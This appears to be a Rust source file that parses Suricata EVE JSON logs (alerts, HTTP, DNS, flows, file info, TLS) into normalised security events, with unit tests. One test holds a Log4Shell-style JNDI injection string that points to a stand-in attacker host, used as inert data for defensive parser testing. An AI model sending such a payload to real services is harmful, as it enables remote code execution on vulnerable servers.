//! Suricata EVE JSON → alerts, HTTP requests, DNS queries, flows, files, TLS names.
//!
//! Deliberately absent: statistics, anomalies, raw packets, and the protocols that name no indicator.

use base64::Engine as _;
use ringleader_model::{Activity, Event, EventClass, Field, Malformed, SensorRole};
use serde_json::Value;

use super::SourceContext;
use super::json::{any, at, scalar, text};
use super::json_format::{JsonFormat, Out};
use super::{ids_rule, wire};

/// The most queries that are taken from one DNS record.
const MAX_QUERIES: usize = 64;

/// Extensible event format, as NDJSON or an array.
pub const SURICATA_EVE: JsonFormat = JsonFormat {
    name: "suricata_eve",
    summary: "Suricata EVE JSON: alert, http, dns (versions 1 to 3), flow, fileinfo, tls",
    mark: r#""event_type""#,
    recognizes: |it| {
        it.get("event_type").is_some_and(Value::is_string)
            && it.get("timestamp").is_some_and(Value::is_string)
            && ["flow_id", "dest_ip", "stats", "engine"].iter().any(|key| it.get(key).is_some())
    },
    read,
};

fn read(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), Malformed> {
    let kind = text(it, "event_type").ok_or(Malformed::new("missing field `event_type`"))?;
    match &*kind {
        "alert" => alert(it, context, out),
        "http" => {
            let mut event = start(EventClass::Http, Activity::Request, it, context)?;
            http(&mut event, it);
            event.set(Field::Body, request_body(it));
            out.emit(&event);
            Ok(())
        }
        "dns" => dns(it, context, out),
        "flow" | "netflow" => flow(it, context, out),
        "fileinfo" => {
            let mut event = start(EventClass::Network, Activity::Other, it, context)?;
            event.set(Field::Url, url(it));
            event.set(Field::HttpHost, at(it, &["http", "hostname"]));
            event.set(Field::UserAgent, at(it, &["http", "http_user_agent"]));
            if let Some(file) = it.get("fileinfo") {
                event.set(Field::Hash, any(file, &["sha256", "sha1", "md5"]));
                event.set(Field::TargetPath, text(file, "filename").map(wire::cap));
                event.set(Field::BytesIn, text(file, "size"));
                event.set(Field::State, text(file, "state"));
                event.set(Field::Detail, text(file, "magic").map(wire::cap));
            }
            out.emit(&event);
            Ok(())
        }
        "tls" => {
            let mut event = start(EventClass::Network, Activity::Open, it, context)?;
            event.set(Field::DstHost, at(it, &["tls", "sni"]));
            event.set(Field::Detail, at(it, &["tls", "subject"]).map(wire::cap));
            out.emit(&event);
            Ok(())
        }
        _ => Ok(()),
    }
}

fn start<'a>(
    class: EventClass,
    activity: Activity,
    it: &'a Value,
    context: &SourceContext,
) -> Result<Event<'a>, Malformed> {
    let mut event = wire::event_at(class, activity, it, &["timestamp"], context)?;
    event.sensor_role = SensorRole::Network;
    event.host = text(it, "host").or_else(|| at(it, &["host", "name"]));
    event.set(Field::SrcIp, text(it, "src_ip"));
    event.set(Field::SrcPort, text(it, "src_port"));
    event.set(Field::DstIp, text(it, "dest_ip"));
    event.set(Field::DstPort, text(it, "dest_port"));
    event.set(Field::Protocol, text(it, "proto").map(|it| it.to_ascii_lowercase()));
    event.set(Field::Session, text(it, "flow_id"));
    Ok(event)
}

fn alert(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), Malformed> {
    let mut event = start(EventClass::Detection, Activity::Alert, it, context)?;
    let alert = it.get("alert").ok_or(Malformed::new("missing field `alert`"))?;
    let title = text(alert, "signature").unwrap_or_default();
    let class = text(alert, "category").unwrap_or_default();
    let metadata = |key: &str| all(alert.get("metadata").and_then(|it| it.get(key)));
    // The packet that fired may be the answer: where the rule knows who attacked, source and destination are that.
    if let (Some(from), Some(to)) = (at(alert, &["source", "ip"]), at(alert, &["target", "ip"])) {
        event.set(Field::SrcIp, from);
        event.set(Field::SrcPort, at(alert, &["source", "port"]));
        event.set(Field::DstIp, to);
        event.set(Field::DstPort, at(alert, &["target", "port"]));
    }
    event.set(Field::Direction, text(it, "direction"));
    event.set(Field::Rule, title.clone());
    event.set(Field::RuleId, text(alert, "signature_id"));
    event.set(Field::Severity, text(alert, "severity"));
    event.set(Field::State, text(alert, "action"));
    event.set(Field::Technique, (!metadata("mitre_technique_id").is_empty()).then(|| metadata("mitre_technique_id")));
    event.set(Field::Cve, ids_rule::cves(&[&title, &metadata("cve"), &all(alert.get("references"))]));
    let tags = [metadata("tag"), metadata("malware_family")];
    event.set(Field::NetworkRole, ids_rule::role(&[&title, &class, &tags[0], &tags[1]]));
    event.set(Field::Detail, class.clone());
    http(&mut event, it);
    event.set(
        Field::Body,
        text(it, "payload_printable").map(wire::cap).or_else(|| request_body(it)).or_else(|| base64(it.get("payload"))),
    );
    out.emit(&event);
    Ok(())
}

/// Every text of a list, or the one text, joined by commas.
fn all(value: Option<&Value>) -> String {
    match value {
        Some(Value::Array(items)) => items.iter().take(MAX_QUERIES).filter_map(scalar).collect::<Vec<_>>().join(","),
        Some(other) => scalar(other).unwrap_or_default().into_owned(),
        None => String::new(),
    }
}

fn http<'a>(event: &mut Event<'a>, it: &'a Value) {
    let Some(http) = it.get("http") else { return };
    event.set(Field::Method, text(http, "http_method"));
    event.set(Field::Url, url(it));
    event.set(Field::HttpHost, text(http, "hostname"));
    event.set(Field::UserAgent, text(http, "http_user_agent").map(wire::cap));
    event.set(Field::Referrer, text(http, "http_refer").map(wire::cap));
    event.set(Field::Status, text(http, "status"));
    event.set(Field::BytesIn, text(http, "length"));
    if let Some(Value::Array(headers)) = http.get("request_headers") {
        let line = |it: &Value| Some(format!("{}: {}", text(it, "name")?, text(it, "value").unwrap_or_default()));
        let lines: Vec<String> = headers.iter().take(256).filter_map(line).collect();
        event.set(Field::Headers, wire::cap(lines.join("\n")));
    }
}

/// The whole address: Suricata splits it into host, port and path.
fn url(it: &Value) -> Option<String> {
    let http = it.get("http")?;
    let path = text(http, "url")?;
    // A proxy's request; an exploit may hold another address further in.
    if ["http://", "https://"].iter().any(|it| path.get(..it.len()).is_some_and(|front| front.eq_ignore_ascii_case(it)))
    {
        return Some(wire::cap(path).into_owned());
    }
    let Some(host) = text(http, "hostname") else { return Some(wire::cap(path).into_owned()) };
    let port = text(http, "http_port").filter(|it| *it != "80").map(|it| format!(":{it}")).unwrap_or_default();
    let slash = if path.starts_with('/') { "" } else { "/" };
    Some(wire::cap(format!("http://{host}{port}{slash}{path}")).into_owned())
}

fn request_body(it: &Value) -> Option<std::borrow::Cow<'_, str>> {
    let http = it.get("http")?;
    text(http, "http_request_body_printable").map(wire::cap).or_else(|| base64(http.get("http_request_body")))
}

fn base64(value: Option<&Value>) -> Option<std::borrow::Cow<'_, str>> {
    let bytes = base64::engine::general_purpose::STANDARD.decode(value?.as_str()?).ok()?;
    Some(wire::printable(&bytes).into_owned().into())
}

/// Version 1 logs one question or one answer; 2 the answers as a list; 3 the questions as a list too.
fn dns(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), Malformed> {
    let dns = it.get("dns").ok_or(Malformed::new("missing field `dns`"))?;
    let mut answers: Vec<String> = Vec::new();
    match dns.get("answers") {
        Some(Value::Array(items)) => {
            answers.extend(items.iter().take(MAX_QUERIES).filter_map(|it| Some(text(it, "rdata")?.into_owned())));
        }
        _ => answers.extend(text(dns, "rdata").map(Into::into)),
    }
    if let (true, Some(Value::Object(grouped))) = (answers.is_empty(), dns.get("grouped")) {
        answers.extend(grouped.values().take(8).map(|it| all(Some(it))));
    }
    let question = |it: &Value| Some((text(it, "rrname")?.into_owned(), text(it, "rrtype").map(|it| it.into_owned())));
    let questions: Vec<_> = match dns.get("queries") {
        Some(Value::Array(items)) => items.iter().take(MAX_QUERIES).filter_map(question).collect(),
        _ => question(dns).into_iter().collect(),
    };
    for (name, kind) in questions {
        let mut event = start(EventClass::Network, Activity::Query, it, context)?;
        event.set(Field::Query, name.trim_end_matches('.').to_owned());
        event.set(Field::Answers, wire::cap(answers.join(",")));
        event.set(Field::State, text(dns, "rcode"));
        event.set(Field::Detail, kind);
        out.emit(&event);
    }
    Ok(())
}

fn flow(it: &Value, context: &SourceContext, out: &mut Out<'_>) -> Result<(), Malformed> {
    let mut event = start(EventClass::Network, Activity::Traffic, it, context)?;
    let flow = it.get("flow").or_else(|| it.get("netflow")).ok_or(Malformed::new("missing field `flow`"))?;
    // A flow is logged when it ends; it is placed where it began.
    if let Some((time, offset)) = text(flow, "start").and_then(|it| wire::parse_time(&it, context)) {
        (event.time, event.utc_offset_minutes) = (Some(time), offset);
    }
    event.set(Field::BytesOut, any(flow, &["bytes_toserver", "bytes"]));
    event.set(Field::BytesIn, text(flow, "bytes_toclient"));
    event.set(Field::State, text(flow, "state"));
    event.set(Field::Detail, text(it, "app_proto").filter(|it| it != "failed"));
    out.emit(&event);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::testing::{read_all, samples};
    use super::*;

    fn check(record: &str, expect: &[&str]) {
        let log = format!(
            "{{\"timestamp\":\"2024-05-01T10:00:00.000001+0200\",\"flow_id\":7,\"src_ip\":\"192.0.2.1\",\"src_port\":4000,\"dest_ip\":\"198.51.100.2\",\"dest_port\":80,\"proto\":\"TCP\",{record}}}"
        );
        assert!((SURICATA_EVE.recognizes)(&serde_json::from_str(&log).unwrap()), "{log}");
        let got = read_all(&SURICATA_EVE, log.as_bytes());
        assert_eq!(got.len(), expect.len(), "{got:#?}");
        for (line, part) in got.iter().zip(expect) {
            assert!(line.contains(part), "{part} in {line}");
        }
    }

    #[test]
    fn dns_of_every_version() {
        check(
            r#""event_type":"dns","dns":{"type":"answer","rrname":"c2.test.","rrtype":"A","rdata":"192.0.2.9"}"#,
            &[r#"query_hostname="c2.test" answers="192.0.2.9""#],
        );
        check(
            r#""event_type":"dns","dns":{"version":2,"type":"answer","rrname":"c2.test","answers":[{"rdata":"192.0.2.9"},{"rdata":"192.0.2.10"}]}"#,
            &[r#"answers="192.0.2.9,192.0.2.10""#],
        );
        check(
            r#""event_type":"dns","dns":{"version":2,"type":"answer","rrname":"c2.test","grouped":{"A":["192.0.2.9"]}}"#,
            &[r#"answers="192.0.2.9""#],
        );
        check(
            r#""event_type":"dns","dns":{"version":3,"type":"request","queries":[{"rrname":"a.test"},{"rrname":"b.test"}]}"#,
            &[r#"query_hostname="a.test""#, r#"query_hostname="b.test""#],
        );
    }

    #[test]
    fn an_address_inside_an_address_is_not_the_address() {
        check(
            r#""event_type":"http","http":{"hostname":"a.test","url":"/?x=${jndi:ldap://evil.example/a}"}"#,
            &[r#"url="http://a.test/?x=${jndi:ldap://evil.example/a}""#],
        );
        check(
            r#""event_type":"http","http":{"hostname":"a.test","url":"http://b.test/"}"#,
            &[r#"url="http://b.test/""#],
        );
    }

    #[test]
    fn an_alert_says_who_attacked_whom() {
        check(
            r#""event_type":"alert","alert":{"signature_id":1,"signature":"X","source":{"ip":"198.51.100.2","port":80},"target":{"ip":"192.0.2.1","port":4000}}"#,
            &[r#"src_ip="198.51.100.2" src_port="80" dst_ip="192.0.2.1" dst_port="4000""#],
        );
    }

    #[test]
    fn public_samples_are_read() {
        let Some(folder) = samples() else { return };
        let log = std::fs::read(folder.join("suricata/tenzir_ctu13_eve_5lines.json")).unwrap();
        let got = read_all(&SURICATA_EVE, &log);
        assert_eq!(got.len(), 5, "{got:#?}");
        assert!(!got.iter().any(|it| it.starts_with("REJECTED")));
    }
}
